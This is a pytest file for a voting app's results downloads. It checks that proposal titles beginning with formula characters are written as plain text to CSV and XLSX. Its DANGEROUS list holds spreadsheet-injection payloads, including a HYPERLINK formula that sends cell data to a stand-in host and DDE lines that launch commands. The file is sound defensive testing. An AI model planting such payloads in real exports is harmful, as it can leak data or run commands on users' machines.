"""Results downloads never hand a spreadsheet a formula: a resident writes the titles.

A title such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` reached results.csv
unchanged and became a live formula (cell type `f`) in results.xlsx. Text that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return (after any leading whitespace too)
is written to CSV as text (a leading apostrophe) and to XLSX as a string cell holding
exactly the title.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lib.spreadsheets import csv_cell
from projects.models import Proposal
from tests.builders import approve_verification
from tests.votes.counting_fixtures import campaign, cast
from votes import services

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+7 (912) SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n=1+1",
    '\u00a0=HYPERLINK("http://evil.example/")',
    " \t+SUM(A1:A9)",
]
HARMLESS = "Сквер у дома 5 = уютный двор"


def published_with_titles(titles: list[str]):
    costs = {f"p{i}": 10 for i in range(len(titles))}
    obj = campaign(costs=costs, budget=100, max_choices=len(titles))
    cast(obj, "v1", dict.fromkeys(costs, 1))
    for entry, title in zip(obj.entries.select_related("proposal").order_by("position"), titles, strict=True):
        Proposal.objects.filter(pk=entry.proposal_id).update(title=title)
    services.tally_compute(campaign_id=obj.pk, final=True)
    services.ledger_seal(campaign_id=obj.pk)
    approve_verification(obj)
    services.results_publish(campaign=obj)
    return obj


def test_csv_writes_formula_like_titles_as_text() -> None:
    obj = published_with_titles([*DANGEROUS, HARMLESS])
    text = Client().get(reverse("votes:results_csv", args=[obj.pk])).content.decode()
    titles = [row["title"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert sorted(titles) == sorted(["'" + title for title in DANGEROUS] + [HARMLESS])
    # Numbers stay numbers: only text cells are touched.
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert all(row["votes"] == "1" and row["cost"] == "10" for row in rows)


def test_xlsx_stores_formula_like_titles_as_string_cells() -> None:
    obj = published_with_titles([*DANGEROUS, HARMLESS])
    content = Client().get(reverse("votes:results_xlsx", args=[obj.pk])).content
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    title_column = header.index("title") + 1
    cells = [sheet.cell(row=row, column=title_column) for row in range(2, sheet.max_row + 1)]
    # XML keeps a carriage return as a line feed; the text is otherwise the title itself.
    assert sorted(cell.value for cell in cells) == sorted(t.replace("\r", "\n") for t in [*DANGEROUS, HARMLESS])
    assert {cell.data_type for cell in cells} == {"s"}
    # No cell anywhere in the sheet is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    votes_column = header.index("votes") + 1
    assert {sheet.cell(row=row, column=votes_column).value for row in range(2, sheet.max_row + 1)} == {1}


@pytest.mark.parametrize("title", ["  =1+1", "\u00a0@SUM(1)", "\n-2+3", " \t=cmd"])
def test_a_formula_after_leading_whitespace_is_neutralised(title: str) -> None:
    assert csv_cell(title) == "'" + title


@pytest.mark.parametrize("value", ["  Сквер", " 5 = 5", 42, "Сквер = двор"])
def test_text_that_is_no_formula_and_numbers_are_left_alone(value) -> None:
    assert csv_cell(value) == value
